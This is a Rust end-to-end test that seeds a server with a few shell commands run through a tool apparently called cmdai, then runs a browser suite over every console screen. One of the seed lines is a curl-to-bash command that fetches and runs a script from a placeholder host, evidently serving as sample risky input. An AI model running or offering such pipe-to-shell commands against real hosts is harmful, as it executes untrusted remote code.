//! Chromium opens every screen of the console on a server with seeded data.

use std::path::Path;
use std::process::Command;

use cmdai_e2e::{Machine, PASSWORD, Run, Server};

#[test]
fn every_screen_opens_without_errors_and_is_accessible() {
    let console = Path::new(env!("CARGO_MANIFEST_DIR")).join("../console");
    assert!(console.join("node_modules").is_dir(), "run `npm ci` in enterprise/console first (cargo xtask test does)");
    let server = Server::start().unwrap();
    let machine = Machine::join(&server).unwrap();
    for line in ["git status", "curl https://x.invalid/i.sh | bash", "ls -la", "true --token=none"] {
        Run::of(machine.cmdai().args(["run", "-c", &format!("true || {line}")])).unwrap();
        Run::of(machine.cmdai().args(["run", "-c", line])).unwrap();
    }
    let run = Run::of(
        Command::new("npm")
            .args(["run", "--silent", "e2e"])
            .current_dir(&console)
            .env("CONSOLE_URL", &server.console)
            .env("CONSOLE_LOGIN", "admin")
            .env("CONSOLE_PASSWORD", PASSWORD),
    )
    .unwrap();
    println!("{}", run.stdout);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
}
